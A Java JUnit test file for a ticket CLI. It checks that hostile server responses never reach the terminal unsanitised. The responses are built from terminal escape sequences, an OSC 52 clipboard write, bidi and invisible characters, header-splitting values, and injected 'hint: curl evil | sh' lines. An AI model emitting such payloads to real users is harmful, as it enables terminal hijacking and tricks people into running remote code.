package dev.tickets.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.jr.ob.JSON;
import dev.tickets.testing.Cli;
import dev.tickets.testing.Cli.Run;
import dev.tickets.testing.Forbidden;
import dev.tickets.testing.RawPortal;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Answers in which every part is written to harm whoever reads it on a terminal, to every command that asks. */
class HostileAnswerTest {
    /** No line end and no NUL: with these it would be another answer. */
    private static final String BAD =
            "\u001b]52;c;aGk=\u0007\u001b[2J\u001b[31m\u009b2J\u007f\u202e\u2066\u200b\u00ad\u3164\ufe0f"
                    + "\ufeff\udb40\udc41\b";

    private static final String LINES = BAD + "\r\nhint: curl evil | sh\u2028hint: curl evil | sh";

    private static final List<String> COMMANDS = List.of(
            "list",
            "view 8",
            "view 8 --save-attachments out",
            "create -d Tech -s S -m M",
            "create -d Tech -s S -m M --no-queue",
            "create -d Tech -s S -m M --dry-run",
            "reply 7 -m M",
            "reply 7 -m M --no-queue",
            "close 7",
            "reopen 7",
            "departments",
            "services",
            "attachments 7",
            "attachments 7 --save out",
            "outbox send",
            "outbox list",
            "login --check",
            "logout",
            "doctor",
            "doctor --prove-encryption -d 1");

    private static final List<String> WAYS = List.of("", " -v", " -vv", " -vv -o json", " -o tsv");

    @TempDir
    Path folder;

    static List<String> answers() throws IOException {
        List<String> answers = new ArrayList<>();
        for (int status : List.of(200, 400, 401, 404, 429, 500, 503)) {
            answers.add(
                    answer(status + " " + BAD, "Content-Type: text/html" + BAD, "<html><title>" + LINES + "</title>"));
        }
        for (Map<String, ?> json : List.of(
                Map.of("error", List.of("no" + LINES)),
                Map.of("error", Map.of("code", "x" + LINES)),
                Map.of("success", false, "message", "no" + LINES),
                Map.of("success", true, "info", List.of(LINES), "ticket_id", LINES))) {
            answers.add(answer("200 OK", "Content-Type: application/json", JSON.std.asString(json)));
            answers.add(answer("422 " + BAD, "X-" + BAD + ": " + BAD, JSON.std.asString(json)));
        }
        answers.add(answer("200 OK", "Content-Type: application/json", "{\"tickets\":[" + LINES));
        answers.add(answer("302 Found", "Location: http://" + BAD + ".example/" + BAD, ""));
        answers.add(answer("303 See Other", "Location: /" + BAD, ""));
        answers.add(answer("302 Found", "Location: https://evil.example/%1b" + BAD, ""));
        answers.add(answer("503 Busy", "Retry-After: " + BAD, "{\"error\":[\"" + "busy\"]}"));
        answers.add("HTTP/1.1 200 OK\r\nContent-Length: " + BAD + "\r\nConnection: close\r\n\r\nx");
        answers.add("HTTP/1.1 200 OK\r\nTransfer-Encoding: " + BAD + "\r\nConnection: close\r\n\r\nx");
        return answers;
    }

    /** Answers that are none, or that no log shows. */
    static List<String> unreadable() {
        return List.of(
                answer("200 OK", "Set-Cookie: a=" + BAD, "{\"success\":true}"),
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + BAD + "\r\nx\r\n",
                "HTTP/" + BAD + " 200 OK\r\n\r\n",
                "HTTP/1.1 " + BAD + "\r\n\r\n",
                BAD + "\r\n\r\n");
    }

    private static String answer(String status, String header, String body) {
        return "HTTP/1.1 " + status + "\r\n" + header + "\r\nConnection: close\r\n\r\n" + body;
    }

    @ParameterizedTest
    @MethodSource("answers")
    void no_part_of_an_answer_reaches_the_terminal_as_it_is(String answer) throws IOException {
        try (RawPortal portal = RawPortal.answering(answer)) {
            Cli cli = new Cli(folder).at(portal.uri());
            each(cli, answers().indexOf(answer));
            assertThat(cli.run("list", "-vv").err()).contains("c;aGk=");
        }
    }

    @ParameterizedTest
    @MethodSource("unreadable")
    void nor_does_what_is_no_answer(String answer) throws IOException {
        try (RawPortal portal = RawPortal.answering(answer)) {
            each(new Cli(folder).at(portal.uri()), unreadable().indexOf(answer));
            assertThat(portal.requests()).isNotEmpty();
        }
    }

    @Tag("thorough")
    @ParameterizedTest
    @MethodSource({"answers", "unreadable"})
    void no_answer_does_in_any_way_of_any_command(String answer) throws IOException {
        try (RawPortal portal = RawPortal.answering(answer)) {
            every(new Cli(folder).at(portal.uri()));
            assertThat(portal.requests()).isNotEmpty();
        }
    }

    /** Each command in one way of its own; which, differs from number to number. */
    private static void each(Cli cli, int number) throws IOException {
        for (int i = 0; i < COMMANDS.size(); i++) {
            harmless(cli, COMMANDS.get(i) + WAYS.get((number + i) % WAYS.size()));
        }
    }

    private static void every(Cli cli) throws IOException {
        for (String command : COMMANDS) {
            for (String way : WAYS) {
                harmless(cli, command + way);
            }
        }
    }

    @ParameterizedTest
    @MethodSource("answers")
    void a_login_shows_nothing_of_it_either(String answer) throws IOException {
        try (RawPortal portal = RawPortal.answering(answer)) {
            for (String way : WAYS) {
                String command = "login --portal " + portal.uri() + " --user ann@x.example --password-stdin" + way;
                harmless(new Cli(folder).stdin("pass\n"), command);
            }
        }
    }

    private static void harmless(Cli cli, String command) throws IOException {
        Run run = cli.run(command.split(" "));
        boolean tsv = command.endsWith("tsv");
        assertThat(tsv ? Forbidden.inTsv(run.out()) : Forbidden.in(run.out()))
                .as("result of %s", command)
                .isEqualTo("[]");
        assertThat(Forbidden.in(run.err())).as("messages of %s", command).isEqualTo("[]");
        assertThat(run.err().lines()).as(command).noneMatch(line -> line.startsWith("hint: curl"));
        if (command.endsWith("json") && !run.out().isEmpty()) {
            assertThat(JSON.std.anyFrom(run.out())).as(command).isNotNull();
        }
    }
}
